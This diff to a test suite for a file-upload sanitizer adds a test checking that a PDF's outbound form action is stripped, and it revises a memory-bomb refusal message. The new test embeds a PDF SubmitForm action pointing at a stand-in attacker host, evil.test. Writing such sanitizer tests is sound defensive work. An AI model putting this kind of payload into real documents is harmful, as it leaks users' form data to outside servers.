@@ -1,8 +1,9 @@
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { buffer } from 'node:stream/consumers';
 import { Failure } from '@portico/contract/errors';
+import { withAction } from '@portico/platform/pdf/pdf.fixture';
 import { folderStorage } from '@portico/platform/storage/folder';
 import sharp from 'sharp';
 import { afterAll, describe, expect, test } from 'vitest';
@@ -77,6 +78,16 @@ describe('a PDF', () => {
     expect(await kept(accepted)).toEqual(letter);
   });
 
+  test('is rewritten without what reaches outside it', async () => {
+    const form = withAction('<< /S /SubmitForm /F (http://evil.test) >>');
+    const accepted = await send(form, 'Form.pdf');
+    expect(accepted).toMatchObject({ name: 'Form.pdf', contentType: 'application/pdf', pages: 1 });
+    const content = await kept(accepted);
+    expect(content.equals(form)).toBe(false);
+    expect(await kept(await send(content, 'Form.pdf'))).toEqual(content);
+    expect((await readdir(folder)).filter((name) => name.endsWith('.rewritten'))).toEqual([]);
+  });
+
   test('may have as many pages as the limit says', async () => {
     expect(await send(files.withPages(300), 'long.pdf')).toMatchObject({ pages: 300 });
   });
@@ -96,7 +107,6 @@ describe('office files and text', () => {
 const DAMAGED = 'fileUnsafe: it’s damaged';
 const PROGRAM = 'fileUnsafe: it has a program in it';
 const HIDDEN = 'fileUnsafe: it has other content hidden in it';
-const TOO_MUCH = 'fileUnsafe: it takes too much time or memory to open';
 
 /** Each as staff sends it: they may send the most. */
 const HOSTILE: [string, string, () => Buffer | Promise<Buffer>, string][] = [
@@ -187,14 +197,15 @@ describe('the process that opens files', () => {
   test('reads no other format of picture, whatever it was told', async () => {
     const path = join(folder, 'drawing');
     await writeFile(path, files.svg());
-    expect(await opener.open({ path, kind: 'png', maxPages: 1 })).toEqual({
+    expect(await opener.open({ path, kind: 'png', maxPages: 1, to: '' })).toEqual({
       rejection: { code: 'fileUnsafe', details: { reason: 'it’s damaged' } },
     });
   });
 });
 
-// Last, because the next file waits for a new process.
 // @spec I12.1
-test('refuses a PDF that fills the memory', async () => {
-  expect(await refusal(send(files.memoryBomb(), 'a.pdf', true))).toBe(TOO_MUCH);
+test('refuses a PDF that would fill the memory', async () => {
+  expect(await refusal(send(files.memoryBomb(), 'a.pdf', true))).toBe(
+    'fileUnsafe: it would be far too large when it’s opened',
+  );
 });
